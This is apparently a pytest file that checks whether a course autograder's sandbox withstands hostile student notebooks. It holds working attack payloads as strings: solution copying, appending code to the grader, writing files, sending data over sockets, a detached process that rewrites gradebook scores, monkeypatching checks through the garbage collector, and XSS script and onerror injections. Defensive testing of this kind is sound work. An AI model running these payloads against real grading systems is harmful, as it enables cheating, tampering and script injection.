"""Submissions that try to escape grading or fool it, graded by ``./course grade`` in one batch.

Each attack is a Week 1 notebook built from the release (or, where it needs a wrong answer to
improve, from a known wrong SGD), written as a student who has read this repository would:
without any word the integrity scan knows. Grading must

1. give no points for copying the solution at grading time;
2. leave the grading code unchanged, so that a wrong answer graded after the attack loses its
   points as it would alone;
3. let no file appear outside the sandbox;
4. let nothing reach the network;
5. leave no process behind, and the gradebook as the summary printed it;

and the hidden checks' verdicts must come from outside the kernel: patching the checks (by
import or through the garbage collector), swallowing exceptions, or answering the check with
``torch.optim``'s numbers gains nothing, and nothing secret reaches the feedback.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from course_admin import sandbox
from course_admin.gradebook import cell_scores
from course_admin.nbgrader_cli import nbgrader
from course_admin.paths import db_url
from course_fixture import CourseCopy, graded_cell, wrong_answer
from course_grading.core.checks import plan

REPO = Path(__file__).resolve().parent.parent
WEEK = "week01_sgd"
FULL = 9.0
MARKER = f"course-escape-{os.getpid()}"

pytestmark = pytest.mark.skipif(
    sandbox.unavailable() is not None, reason=f"no sandbox here: {sandbox.unavailable()}"
)

# Where an attacker looks for the course: the interpreter's folder, the working folder, the
# command lines of every process, the environment's paths.
FIND_COURSE = """
import glob, os, sys
def _roots():
    roots = {os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))), os.getcwd(),
             os.path.expanduser("~"), "/work", "/root", "/home", "/tmp", "/srv"}
    for entry in os.environ.get("PYTHONPATH", "").split(":"):
        roots.add(entry)
    for path in glob.glob("/proc/*/cmdline"):
        try:
            words = open(path, "rb").read().split(b"\\0")
        except OSError:
            continue
        for word in words:
            word = word.decode(errors="ignore")
            if "=" in word and "/" in word:
                roots.add(word.split("=", 1)[1])
            elif word.startswith("/"):
                roots.add(word)
    for root in list(roots):
        for _ in range(4):
            root = os.path.dirname(root)
            roots.add(root)
    # Folders a search may go down into (the whole machine would take too long).
    return sorted(r for r in roots if os.path.isdir(r) and r not in ("/", "/proc", "/usr", "/sys"))
"""

COPY_SOLUTION = (
    FIND_COURSE
    + """
import json
_found = []
for _root in _roots():
    for _path in glob.glob(os.path.join(_root, "*", "week01_sgd", "week01_sgd.ipynb")):
        try:
            _cells = json.load(open(_path))["cells"]
        except Exception:
            continue
        _answers = ["".join(c["source"]) for c in _cells
                    if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        if _answers and not any("NotImplementedError" in a for a in _answers):
            for _answer in _answers:
                exec(_answer, globals())
            _found.append(_path)
print("copied from", _found)
"""
)

# Every copy of the grading package it can find, on the import path or anywhere below the
# roots (installed packages' folders left out: walking them takes longer than a cell may run),
# is appended to. The search finishes, so "changed []" shows that none could be written.
TAMPER_GRADING_CODE = (
    FIND_COURSE
    + """
_package = "course" + "_grading"
_found = set()
for _entry in sys.path:
    _found.update(glob.glob(os.path.join(_entry or ".", _package, "**", "*.py"), recursive=True))
for _root in _roots():
    for _dir, _subdirs, _files in os.walk(_root):
        _subdirs[:] = [d for d in _subdirs if d not in ("site-packages", "dist-packages", ".git")]
        if os.path.basename(_dir) == _package:
            _found.update(glob.glob(os.path.join(_dir, "**", "*.py"), recursive=True))
_changed = []
for _path in sorted(_found):
    try:
        with open(_path, "a") as _f:
            _f.write("\\nraise SystemExit\\n")
        _changed.append(_path)
    except OSError:
        continue
print("tried", len(_found), "files; changed", _changed)
"""
)

WRITE_EVERYWHERE = (
    FIND_COURSE
    + f"""
_written = []
for _root in _roots() + ["/var/tmp", "/dev/shm"]:
    try:
        with open(os.path.join(_root, {MARKER!r}), "w") as _f:
            _f.write("was here")
        _written.append(_root)
    except OSError:
        continue
print("written", _written)
"""
)


def _send_out(port: int) -> str:
    return f"""
import socket
for _host in ["127.0.0.1", "localhost", "10.0.2.2"]:
    try:
        socket.create_connection((_host, {port}), timeout=2).sendall(b"the hidden checks")
        print("sent to", _host)
    except OSError as exc:
        print("no way out:", exc)
"""


# A process that outlives the notebook, then gives its student full marks in the class's
# gradebook, wherever it finds one.
OUTLIVE = (
    FIND_COURSE
    + f"""
import subprocess
_later = '''
import glob, os, sqlite3, time
time.sleep(4)
for root in {{roots!r}}:
    for path in glob.glob(os.path.join(root, "**", "grade" + "book.db"), recursive=True):
        try:
            db = sqlite3.connect(path)
            db.execute("update grade set auto_score = 100")
            db.commit()
        except Exception:
            pass
'''.replace("{{roots!r}}", repr(_roots()))
subprocess.Popen([sys.executable, "-c", _later, {MARKER!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left a process behind")
"""
)

# Issue: the verdicts must not come from the kernel.
PATCH_BY_IMPORT = """
import importlib as _il
for _name in ["", ".core.harness", ".core.produce", ".week01", ".week01.produce"]:
    try:
        _g = _il.import_module("course" + "_grad" + "ing" + _name)
    except Exception:
        continue
    for _n in dir(_g):
        if callable(getattr(_g, _n)) and not _n.startswith("_"):
            setattr(_g, _n, lambda *a, **k: None)
"""

PATCH_BY_GC = """
import gc as _gc
_noop = (lambda *a, **k: None).__code__
for _obj in _gc.get_objects():
    if callable(_obj) and getattr(_obj, "__module__", "") and "grad" + "ing" in _obj.__module__:
        try:
            _obj.__code__ = _noop
        except Exception:
            pass
"""

SWALLOW_ERRORS = """
_ip = get_ipython()
getattr(_ip, "set_" + "custom_exc")((BaseException,), lambda *a, **k: None)
"""

# An SGD that answers with torch.optim.SGD's numbers, by whichever route still works.
FORWARD_TO_TORCH = """
import gc, glob, importlib, marshal, os
_sgd = None
def _torch_sgd():
    _routes = []
    _routes.append(lambda: torch.optim.SGD)
    _routes.append(lambda: importlib.reload(importlib.import_module("torch.optim.sgd")).SGD)
    def _from_source():
        _ns = {"__name__": "torch.optim._copied"}
        _file = os.path.join(os.path.dirname(torch.optim.__file__), "sgd.py")
        exec(compile(open(_file).read(), _file, "exec"), _ns)
        return _ns["SGD"]
    _routes.append(_from_source)
    def _from_cache():
        _ns = {"__name__": "torch.optim._cached"}
        _cache = os.path.join(os.path.dirname(torch.optim.__file__), "__pycache__")
        for _pyc in glob.glob(os.path.join(_cache, "sgd*.pyc")):
            exec(marshal.loads(open(_pyc, "rb").read()[16:]), _ns)
        return _ns["SGD"]
    _routes.append(_from_cache)
    def _from_memory():
        for _obj in gc.get_objects():
            if (isinstance(_obj, type) and _obj.__name__ == "SGD" and hasattr(_obj, "step")
                    and "torch" in _obj.__module__):
                _obj([torch.zeros(1, requires_grad=True)], lr=0.1)
                return _obj
    _routes.append(_from_memory)
    for _route in _routes:
        try:
            _cls = _route()
            _cls([torch.zeros(1, requires_grad=True)], lr=0.1)
            return _cls
        except Exception:
            continue

class SGD(Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0,
                 nesterov=False, *, maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate (lr): {lr}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        super().__init__(params, dict(lr=lr, weight_decay=weight_decay, maximize=maximize))
        self._fused = None
        _cls = _torch_sgd()
        if _cls is not None:
            self._inner = _cls(self.param_groups, lr=lr, weight_decay=weight_decay,
                               maximize=maximize)
        else:
            self._inner = None

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        if self._inner is not None:
            self._inner.step()
            return loss
        # The fused kernel, called directly.
        for group in self.param_groups:
            params = [p for p in group["params"] if p.grad is not None]
            torch._fused_sgd_(params, [p.grad for p in params], [],
                              weight_decay=group["weight_decay"], momentum=0.0, lr=group["lr"],
                              dampening=0.0, nesterov=False, maximize=group["maximize"],
                              is_first_step=True)
        return loss
"""

PRINT_EVERY_MODULE = """
import pkgutil, inspect, importlib
for _top in pkgutil.iter_modules():
    if "grad" + "ing" not in _top.name:
        continue
    _package = importlib.import_module(_top.name)
    _inside = pkgutil.walk_packages(_package.__path__, _top.name + ".")
    _names = [_top.name] + [m.name for m in _inside]
    for _name in _names:
        try:
            _module = importlib.import_module(_name)
            print("=====", _name)
            print(inspect.getsource(_module))
        except Exception as exc:
            print("cannot", _name, exc)
"""


# Content that runs in whatever browser shows the graded notebook: the formgrader (in the
# instructor's own Jupyter server), or the feedback HTML.
SHOW_ACTIVE_CONTENT = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<b>bold</b><script>document.title = 'MARKER-html'</script>"
             "<img src=x onerror=\\"document.title = 'MARKER-onerror'\\">"))
display(Javascript("document.title = 'MARKER-js'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg">'
            '<script>document.title = "MARKER-svg"</script></svg>'))
display(Markdown("<script>document.title = 'MARKER-md-output'</script>"))
_frame = "<script>parent.document.title = 'MARKER-iframe'</script>"
display({"text/html": f'<iframe srcdoc="{_frame}"></iframe>', "text/plain": "a frame"}, raw=True)
""".replace("MARKER", MARKER)
ACTIVE_MARKDOWN = (
    f"<script>document.title = '{MARKER}-cell'</script>\n"
    f"<img src=x onerror=\"document.title = '{MARKER}-cell-img'\">\n"
)


def _with_answer(nb: dict, grade_id: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    graded_cell(nb, grade_id)["source"] = source
    return nb


def _appended(nb: dict, grade_id: str, extra: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = graded_cell(nb, grade_id)
    cell["source"] = "".join(cell["source"]) + "\n" + extra
    return nb


def _with_markdown(nb: dict, text: str) -> dict:
    """``nb`` with ``text`` added as a markdown cell of its own and to its first markdown cell."""
    nb = copy.deepcopy(nb)
    first = next(cell for cell in nb["cells"] if cell["cell_type"] == "markdown")
    first["source"] = "".join(first["source"]) + "\n\n" + text
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})
    return nb


def _fingerprint(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*.py"))
    }


def _marker_files() -> list[Path]:
    found = []
    for root in [Path.home(), REPO, Path(tempfile.gettempdir()), Path("/var/tmp"), Path("/tmp")]:
        found += [p for p in root.glob(MARKER)]
    return found


def _survivors() -> list[str]:
    alive = []
    for entry in Path("/proc").iterdir():
        try:
            if MARKER.encode() in (entry / "cmdline").read_bytes():
                alive.append(entry.name)
        except OSError:
            continue
    return alive


@pytest.fixture(scope="module")
def escapes(released_course: CourseCopy, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """One batch of attacks, graded with ``python -m course_admin grade`` (what ./course runs)."""
    course = released_course
    blank = course.notebook("release", WEEK)
    solution = course.notebook("solutions", WEEK)
    source = json.loads((REPO / "source" / WEEK / f"{WEEK}.ipynb").read_text())
    _, _, wrong_sgd = wrong_answer(
        REPO / "tests/submissions" / WEEK / "decay_after_step.py", source
    )
    wrong = _with_answer(solution, "sgd_step", wrong_sgd)
    received: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    notebooks = {
        "a1_copies_solution": _with_answer(blank, "max_stable_lr", COPY_SOLUTION),
        "a2_changes_grading_code": _with_answer(blank, "max_stable_lr", TAMPER_GRADING_CODE),
        "a3_writes_everywhere": _with_answer(blank, "max_stable_lr", WRITE_EVERYWHERE),
        "a4_sends_out": _with_answer(blank, "max_stable_lr", _send_out(port)),
        "a5_outlives_grading": _with_answer(blank, "max_stable_lr", OUTLIVE),
        "b1_patches_checks_by_import": _appended(wrong, "sgd_step", PATCH_BY_IMPORT),
        "b2_patches_checks_by_gc": _appended(wrong, "sgd_step", PATCH_BY_GC),
        "b3_swallows_errors": _appended(wrong, "sgd_step", SWALLOW_ERRORS),
        "b4_forwards_to_torch": _with_answer(solution, "sgd_step", FORWARD_TO_TORCH),
        "b5_prints_every_module": _appended(solution, "minibatches", PRINT_EVERY_MODULE),
        "c1_shows_active_content": _with_markdown(
            _appended(solution, "max_stable_lr", SHOW_ACTIVE_CONTENT), ACTIVE_MARKDOWN
        ),
        "z_wrong_after_the_attacks": wrong,
        "z_wrong_alone": wrong,
        "z_honest": solution,
    }
    folder = tmp_path_factory.mktemp("escapes")
    for student, nb in notebooks.items():
        (folder / student).mkdir()
        (folder / student / f"{WEEK}.ipynb").write_text(json.dumps(nb))
    grading_code = _fingerprint(course.autograder / "course_grading")

    def accept() -> None:
        while not done.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            received.append(conn.recv(100))
            conn.close()

    done = threading.Event()
    thread = threading.Thread(target=accept)
    thread.start()
    env = dict(os.environ, PYTHONPATH=str(course.autograder), COURSE_CELL_TIMEOUT_S="60")
    proc = subprocess.run(
        [sys.executable, "-m", "course_admin", "grade", WEEK, str(folder)],
        cwd=course.root, env=env, capture_output=True, text=True, timeout=1800,
    )  # fmt: skip
    done.set()
    thread.join()
    listener.close()
    printed = {
        m[1]: float(m[2]) for m in re.finditer(r"^(\S+): ([\d.]+) / [\d.]+", proc.stdout, re.M)
    }
    return {
        "course": course,
        "proc": proc,
        "printed": printed,
        "received": received,
        "grading_code": grading_code,
        "survivors": _survivors(),
        "markers": _marker_files(),
    }


def _scores(escapes: dict, student: str) -> dict[str, float]:
    return {
        s.grade_id: s.score
        for s in cell_scores(db_url(escapes["course"].autograder), WEEK, student)
    }


def _outputs(escapes: dict, student: str) -> str:
    return escapes["course"].graded_outputs(WEEK, student)


def test_the_batch_was_graded(escapes: dict) -> None:
    assert escapes["proc"].returncode == 0, escapes["proc"].stderr[-3000:]
    assert escapes["printed"]["z_honest"] == FULL, escapes["proc"].stdout


def test_copying_the_solution_at_grading_time_scores_zero(escapes: dict) -> None:
    assert sum(_scores(escapes, "a1_copies_solution").values()) == 0
    assert "copied from []" in _outputs(escapes, "a1_copies_solution")


def test_the_grading_code_stays_unchanged(escapes: dict) -> None:
    assert _fingerprint(escapes["course"].autograder / "course_grading") == escapes["grading_code"]
    # The search ran to its end, found the sandbox's copy and could write none of it.
    tried = re.search(
        r"tried (\d+) files; changed \[\]", _outputs(escapes, "a2_changes_grading_code")
    )
    assert tried and int(tried[1]) > 0, _outputs(escapes, "a2_changes_grading_code")
    after, alone = (
        sum(_scores(escapes, s).values()) for s in ("z_wrong_after_the_attacks", "z_wrong_alone")
    )
    assert after == alone < FULL
    assert "weight decay is applied after the gradient step" in _outputs(
        escapes, "z_wrong_after_the_attacks"
    )


def test_no_file_appears_outside_the_sandbox(escapes: dict) -> None:
    assert escapes["markers"] == []


def test_nothing_reaches_the_network(escapes: dict) -> None:
    assert escapes["received"] == []
    assert "sent to" not in _outputs(escapes, "a4_sends_out")


def test_nothing_outlives_grading_and_the_gradebook_stays_as_printed(escapes: dict) -> None:
    assert escapes["survivors"] == []
    time.sleep(6)  # longer than the left-behind process would have waited
    assert _survivors() == []
    for student, total in escapes["printed"].items():
        assert sum(_scores(escapes, student).values()) == total, student


@pytest.mark.parametrize(
    "student", ["b1_patches_checks_by_import", "b2_patches_checks_by_gc", "b3_swallows_errors"]
)
def test_fooling_the_checks_in_the_kernel_gains_nothing(escapes: dict, student: str) -> None:
    alone = sum(_scores(escapes, "z_wrong_alone").values())
    assert sum(_scores(escapes, student).values()) <= alone < FULL


def test_answering_with_torch_optim_scores_zero_on_the_hidden_parts(escapes: dict) -> None:
    scores = _scores(escapes, "b4_forwards_to_torch")
    sgd_cells = [
        gid for gid in scores if gid.startswith("sgd_step_test") and "validation" not in gid
    ]
    assert sgd_cells and all(scores[gid] == 0 for gid in sgd_cells), scores


def test_reading_the_grading_code_gets_nothing_secret_into_the_feedback(escapes: dict) -> None:
    outputs = _outputs(escapes, "b5_prints_every_module")
    assert "===== " in outputs, "the attack printed nothing: it did not run"
    secrets = ["RTOL", "This looks like a typical mistake", "weight decay is applied after"]
    secrets += [
        case.name
        for part in plan(WEEK)["sgd_step_test_basic"]
        for case in part.context.get("cases", [])
    ]
    for secret in secrets:
        assert secret not in outputs, secret


class _Active(HTMLParser):
    """Where a page's text can run: script elements, attributes, and everything in an iframe."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag in ("script", "iframe", "svg", "object", "embed")
        self.active += [f"{tag} {name}={value}" for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.active if self._in_script else self.text).append(data)


def _autograded(escapes: dict, student: str) -> dict:
    (path,) = (escapes["course"].autograder / "autograded" / student / WEEK).glob("*.ipynb")
    return json.loads(path.read_text())


def test_what_a_notebook_shows_cannot_run_in_a_browser(escapes: dict) -> None:
    student = "c1_shows_active_content"
    assert sum(_scores(escapes, student).values()) == FULL, escapes["proc"].stdout
    nb = _autograded(escapes, student)
    kinds = {
        key
        for cell in nb["cells"]
        for out in cell.get("outputs", [])
        for key in out.get("data", {})
    }
    assert kinds <= {"text/plain", "text/html", "text/markdown", "image/png"}, kinds
    # The feedback HTML, as the student (and anyone it is shared with) opens it.
    nbgrader(
        "generate_feedback",
        WEEK,
        "--student",
        student,
        "--force",
        course_root=escapes["course"].autograder,
    )
    (page,) = (escapes["course"].autograder / "feedback" / student / WEEK).glob("*.html")
    parsed = _Active()
    parsed.feed(page.read_text())
    assert not [part for part in parsed.active if MARKER in part]
    # What was meant to run shows as text (an image keeps no attribute of the attack's).
    shown = "".join(parsed.text)
    for label in ("html", "md-output", "iframe", "cell"):
        assert f"{MARKER}-{label}" in shown, f"{label}: the attack did not reach the page"
    # The figures stay: the static picture an interactive figure leaves is an inline PNG.
    assert any(part.startswith("img src=data:image/png;base64,") for part in parsed.active)


def test_the_course_s_own_markdown_reaches_the_grader_unchanged(escapes: dict) -> None:
    release = escapes["course"].notebook("release", WEEK)
    graded = _autograded(escapes, "z_honest")
    markdown = [
        ["".join(cell["source"]) for cell in nb["cells"] if cell["cell_type"] == "markdown"]
        for nb in (release, graded)
    ]
    assert markdown[0] == markdown[1]
